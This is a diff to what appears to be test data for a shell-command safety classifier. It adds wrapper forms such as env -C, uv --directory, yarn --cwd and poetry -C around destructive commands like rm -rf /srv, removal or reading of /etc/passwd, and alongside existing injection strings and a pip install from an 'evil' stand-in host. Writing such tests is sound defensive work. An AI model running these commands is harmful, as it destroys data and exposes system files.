@@ -442,6 +442,15 @@ SYSTEM_AND_INFRA = [
     "unset 'a[$(rm -rf /srv)]'",
     "read 'a[$(rm -rf /srv)]' < notes.md",
     "python3 -m pip install https://x.example/evil.tar.gz",
+    "env -C / rm -rf srv",
+    "env --chdir=/etc rm -f passwd",
+    "env -C docs rm -rf ../../x",
+    "env -C link_etc cat passwd",
+    "env -C src rm -rf leak.txt/",
+    "uv run --directory / rm -rf srv",
+    "yarn --cwd /srv exec rm -rf data",
+    "uv --directory src run rm -rf leak.txt/",
+    "poetry -C / run rm -rf srv",
 ]
 
 
@@ -565,6 +574,8 @@ BUILD_TEST = [
     "npm exec -- vitest run",
     "npx prettier --check .",
     "uvx ruff check .",
+    "env -C docs make html",
+    "env -C docs rm -rf _build",
     "dotnet test",
     "shellcheck scripts/run.sh",
 ]
